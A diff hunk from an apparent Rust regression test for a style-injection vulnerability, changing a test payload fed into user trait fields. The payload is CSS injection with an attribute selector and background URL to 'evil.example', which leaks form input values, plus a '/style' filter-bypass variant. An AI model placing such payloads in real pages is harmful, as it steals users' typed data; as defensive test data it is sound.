@@ -188,7 +188,7 @@ async fn cwe_79_no_address_of_an_event_runs() {
 #[tokio::test]
 async fn cve_2026_40497_no_style_of_theirs_is_on_a_page() {
     let house = House::open().await;
-    let style = "<style>input[value^=a]{background:url(//evil.example)}</style><p style=color:red>";
+    let style = "<style>input[value^=a]{background:url(//evil.example)}</style><p/style=color:red>";
     let call = json!({"type": "identify", "userId": "x-1", "messageId": "1",
         "traits": {"firstName": style, "note": style}});
     all_pages(&house, [call]).await;
